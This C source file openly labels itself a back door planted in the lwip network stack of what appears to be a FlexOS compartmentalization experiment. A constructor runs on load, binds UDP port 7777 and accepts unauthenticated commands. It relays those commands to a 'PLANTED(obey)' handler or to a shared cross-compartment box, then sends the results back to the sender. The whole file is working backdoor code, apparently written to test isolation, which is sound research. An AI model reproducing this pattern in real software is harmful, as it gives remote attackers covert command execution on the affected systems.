/* SPDX-License-Identifier: BSD-3-Clause */
/* The back door: UDP port 7777, inside lwip. */
#include <string.h>

#include "lwip/udp.h"

#include <flexos/flexos.h>
#include <flexos/sched.h>
#include <flexos/time.h>

#include "planted.h"

#define PORT 7777

struct planted_box planted_box __attribute__((flexos_share));

static void answer(struct udp_pcb *pcb, const char *text, size_t size, const ip_addr_t *to, u16_t port) {
    struct pbuf *packet = pbuf_alloc(PBUF_TRANSPORT, (u16_t)size, PBUF_RAM);

    if (!packet)
        return;
    memcpy(packet->payload, text, size);
    udp_sendto(pcb, packet, to, port);
    pbuf_free(packet);
}

static void knock(void *unused, struct udp_pcb *pcb, struct pbuf *data, const ip_addr_t *from, u16_t port) {
    static char command[PLANTED_TEXT], text[PLANTED_TEXT];
    size_t size = pbuf_copy_partial(data, command, sizeof command - 1, 0);

    (void)unused;
    pbuf_free(data);
    command[size] = 0;
    if (strncmp(command, "lwip ", 5) == 0) {
        answer(pcb, text, PLANTED(obey)(command + 5, text, sizeof text), from, port);
    } else if (strcmp(command, "box") == 0) {
        if (planted_box.asked == planted_box.answered)
            answer(pcb, planted_box.answer, strlen(planted_box.answer), from, port);
        else
            answer(pcb, "wait\n", 5, from, port);
    } else {
        memcpy(planted_box.command, command, size + 1);
        planted_box.asked++;
        answer(pcb, "asked\n", 6, from, port);
    }
}

static void open_door(void *unused) {
    struct udp_pcb *pcb;

    (void)unused;
    while (!netif_default)
        sched_sleep_until(flexos_clock_ns() + 20000000u);
    pcb = udp_new();
    udp_bind(pcb, IP4_ADDR_ANY, PORT);
    udp_recv(pcb, knock, NULL);
    sched_exit();
}

static __attribute__((constructor)) void begin(void) {
    sched_spawn(open_door, NULL);
}
